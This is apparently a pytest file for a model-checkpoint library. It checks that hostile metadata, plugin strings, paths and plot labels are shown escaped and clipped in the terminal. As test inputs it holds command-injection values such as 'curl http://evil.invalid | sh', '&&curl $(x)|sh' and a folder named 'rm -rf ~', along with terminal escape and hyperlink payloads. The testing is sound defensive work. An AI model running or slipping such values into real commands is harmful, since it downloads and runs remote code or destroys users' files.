"""Text from files reaches messages and the terminal escaped and clipped: hostile metadata
and component names are inert; so are paths with rich markup, ``$...$`` in plot labels and
plugins' preset names and errors.

(Once ``test_hardening.py``, by the items of issue 9.)
"""

from __future__ import annotations

import json
import re
import shutil
import warnings
from pathlib import Path
from typing import Any

import pytest

import zoo
from helpers import edit_metadata, prepared_bytes, split_file, tiny
from zoo import CheckpointError
from zoo.cli import main
from zoo.errors import printable, quoted
from zoo.nn.hookspecs import hookimpl
from zoo.nn.registry import Registry, set_default_registry
from zoo.training import TrainSettings, train

CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")  # anything a terminal would act on


def test_printable_and_quoted_escape_controls_and_clip() -> None:
    hostile = "a\x1b[31mred\x1b]8;;http://x\x07link\x9b2J\u202eevil\n"
    shown = printable(hostile)
    assert not CONTROL.search(shown) and "\u202e" not in shown
    assert "\\x1b[31m" in shown and "\\x07" in shown and "\\u202e" in shown
    long = printable("x" * 10_000)
    assert len(long) < 200 and "9,880 more characters" in long
    assert quoted("y" * 10_000).startswith("'yyy") and len(quoted("y" * 10_000)) < 200


def test_a_long_or_hostile_component_name_gives_a_short_escaped_error() -> None:
    for name in ("q" * 10_000, "sdpa\x1b[2J\x1b]8;;http://evil\x07"):
        with pytest.raises(zoo.UnknownComponentError) as caught:
            zoo.build("gpt2-small", attention=name, device="meta")
        message = str(caught.value)
        assert len(message) < 800 and not CONTROL.search(message)


HOSTILE = [
    "\x1b[31mred\x1b[0m",
    "\x1b]8;;http://evil.invalid\x07click\x1b]8;;\x07",
    "[link=http://evil.invalid]click[/link]",
    "[/bold]",
    "[bold red]loud",
    "\x9b2J",
    "w" * 10_000,
]


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_zoo_inspect_shows_hostile_metadata_as_inert_text(
    text: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = zoo.save(tiny(), tmp_path / "m.safetensors", metadata={"note": text, text[:50]: "key"})
    assert main(["inspect", str(path)]) == 0
    out, err = capsys.readouterr()
    assert not CONTROL.search(out + err), (out + err)[:500]
    assert "note" in out and err == ""
    if "\x1b" in text:
        assert "\\x1b" in out  # shown escaped
    if text.startswith("["):
        assert text in out  # the markup is shown as text, not interpreted
    assert max(map(len, out.splitlines())) < 1000  # 10,000 characters are clipped


@pytest.mark.parametrize(
    "field",
    ["name", "plugin", "distribution", "version"],
)
def test_hostile_component_records_reach_messages_escaped(
    field: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    raw = zoo.save(tiny(), tmp_path / "m.safetensors").read_bytes()
    header, _ = split_file(raw)
    records = json.loads(header["__metadata__"]["zoo.components"])
    hostile = "zoo-modern; curl http://evil.invalid | sh #\x1b[2J"
    records["position"] = {"name": "sinusoidal-x", "plugin": "p", "distribution": "zoo-lm-x", "version": "1.0"}
    records["position"][field] = hostile if field != "name" else "sinusoidal-x"
    config = json.loads(header["__metadata__"]["zoo.config"])
    config["position"] = {"name": "sinusoidal-x" if field != "name" else hostile}
    if field == "name":
        records["position"]["name"] = hostile
    edited = edit_metadata(raw, zoo_components=json.dumps(records), zoo_config=json.dumps(config))
    path = tmp_path / "hostile.safetensors"
    path.write_bytes(edited)
    with pytest.raises(CheckpointError) as caught:
        zoo.load(path)
    message = str(caught.value)
    assert not CONTROL.search(message)
    assert "pip install zoo-modern;" not in message and "| sh" not in message.split("'")[0]
    if field == "distribution":
        assert "pip install" not in message and "not a valid distribution name" in message
    else:
        assert "pip install zoo-lm-x" in message
    assert main(["inspect", str(path)]) == 0
    out, err = capsys.readouterr()
    assert not CONTROL.search(out + err)


def test_commands_to_paste_are_quoted() -> None:
    """``zoo.errors.command`` builds every command a message shows: a value from a file
    or a path with shell syntax comes back as one quoted word, controls escaped."""
    from zoo.errors import command

    assert command("hf", "download", "org/x", "--revision", "main&&curl $(x)|sh") == (
        "`hf download org/x --revision 'main&&curl $(x)|sh'`"
    )
    assert command("rm", "-r", Path("/a b/c")) == "`rm -r '/a b/c'`"
    assert not CONTROL.search(command("x", "a\x1b[2Jb\n"))


def test_the_command_to_prepare_a_folder_is_quoted(tmp_path: Path) -> None:
    """A data folder whose name is shell syntax: the advice to prepare it quotes it."""
    from zoo.training import open_data

    folder = tmp_path / "my data; rm -rf ~"
    folder.mkdir()
    with pytest.raises(zoo.ZooError) as err:
        open_data(folder)
    assert f"`zoo data prepare TEXT -o '{folder}'`" in str(err.value)


# -- markup and control characters in paths, plot labels and plugin strings ----------------------

OVERRIDES = dict(n_layers=1, d_model=32, n_heads=2, vocab_size=256, max_seq_len=32, dropout=0.0)
SETTINGS = TrainSettings(steps=2, batch_size=2, seq_len=16, eval_every=2, eval_batches=1, save_every=2, threads=1)
MODEL = ["--set", "n_layers=1", "--set", "d_model=32", "--set", "n_heads=2", "--set", "vocab_size=256"]
MODEL += ["--set", "max_seq_len=32", "--set", "dropout=0.0"]


@pytest.fixture(scope="module")
def data(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return prepared_bytes(tmp_path_factory.mktemp("data"), 8_000)


@pytest.fixture(scope="module")
def run(data: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A finished tiny run (one version, its state, metrics.jsonl); copy it before editing."""
    out = tmp_path_factory.mktemp("run") / "run"
    train("gpt2-small", data, SETTINGS, out=out, overrides=OVERRIDES)
    return out


@pytest.fixture
def hostile_dir(tmp_path: Path) -> Path:
    """A folder whose path holds a rich closing tag, an opening one and an escape sequence."""
    folder = tmp_path / "a[" / "]b [bold]\x1b[2J"
    folder.mkdir(parents=True)
    return folder


@pytest.mark.parametrize(
    "argv",
    [
        lambda d: ["inspect", str(d / "m.safetensors")],
        lambda d: ["build", "gpt2-small", *MODEL, "-o", str(d / "new.safetensors")],
        lambda d: ["convert", "--to-hf", str(d / "m.safetensors"), "-o", str(d / "hf")],
        lambda d: ["compare", str(d / "m.safetensors"), "gpt2-small"],
        lambda d: ["info", str(d / "m.safetensors")],
        lambda d: [
            "generate",
            str(d / "m.safetensors"),
            "--prompt",
            "a",
            "--max-new-tokens",
            "2",
            "--tokenizer",
            "bytes",
        ],
    ],
    ids=["inspect", "build", "convert", "compare", "info", "generate"],
)
def test_paths_with_markup_and_escapes_are_plain_text_everywhere(
    hostile_dir: Path, capsys: pytest.CaptureFixture[str], argv: Any
) -> None:
    zoo.save(tiny(vocab_size=256), hostile_dir / "m.safetensors")
    assert main(argv(hostile_dir)) == 0
    out, err = capsys.readouterr()
    assert "\x1b" not in out + err and "unexpected" not in err, err


def test_convert_from_hf_with_markup_in_both_paths(hostile_dir: Path) -> None:
    folder = zoo.to_hf(tiny(), hostile_dir / "hf")
    assert main(["convert", "--from-hf", str(folder), "-o", str(hostile_dir / "back.safetensors")]) == 0


@pytest.mark.parametrize("where", ["run folder", "title"])
def test_dollar_signs_in_plot_labels_are_text_not_mathtext(run: Path, tmp_path: Path, where: str) -> None:
    out = tmp_path / "x$\\undefinedcommand{$" if where == "run folder" else tmp_path / "run"
    shutil.copytree(run, out)
    title = ["--title", "$\\frac{$ 5$"] if where == "title" else []
    assert main(["plot", str(out), "-o", str(tmp_path / "c.png"), *title]) == 0
    assert (tmp_path / "c.png").read_bytes().startswith(b"\x89PNG")


def test_probe_plot_labels_are_text_not_mathtext(tmp_path: Path) -> None:
    pytest.importorskip("matplotlib")
    import torch

    from zoo.probe import plot, probe

    result = probe(tiny(vocab_size=256), torch.randint(0, 256, (2, 8)), label="$\\x{$", source="$\\frac{$")
    assert plot([result], tmp_path / "p.png").read_bytes().startswith(b"\x89PNG")


class HostilePlugin:
    """A plugin whose preset name and description carry escapes and rich markup."""

    @hookimpl
    def zoo_register_presets(self, register: Any) -> None:
        fields = dict(d_model=32, n_layers=1, n_heads=2, vocab_size=97, max_seq_len=16)
        register("evil\x1b[2J[/]", fields, description="desc \x1b]0;pwned\x07 [/bold] [link=http://x]y[/link]")


class FailingPlugin:
    """A plugin that fails to register with escapes in its error."""

    @hookimpl
    def zoo_register_presets(self, register: Any) -> None:
        raise ValueError("boom \x1b[2J \x9b2J [/] [link=http://x]y[/link]")


@pytest.mark.parametrize(
    "plugin,argv",
    [
        (HostilePlugin, ["list"]),
        (HostilePlugin, ["components"]),
        (HostilePlugin, ["info", "evil\x1b[2J[/]"]),
        (FailingPlugin, ["plugins"]),
        (FailingPlugin, ["list"]),
    ],
)
def test_plugin_strings_reach_every_table_escaped(
    capsys: pytest.CaptureFixture[str], plugin: type, argv: list[str]
) -> None:
    previous = set_default_registry(Registry(plugins=[plugin()]))
    try:
        with warnings.catch_warnings():
            warnings.simplefilter("ignore", RuntimeWarning)  # the failing plugin's own warning, said by the CLI
            assert main(argv) == 0
    finally:
        set_default_registry(previous)
    out, err = capsys.readouterr()
    assert not CONTROL.search(out + err.replace("\n", "")), (out + err)[:2000]
    if plugin is HostilePlugin and argv[0] != "components":
        assert "\\x1b]0;pwned" in out and "[/bold] [link=http://x]y[/link]" in out  # escaped, markup as text
    if argv[0] == "plugins":
        assert "boom \\x1b[2J \\x9b2J [/]" in out
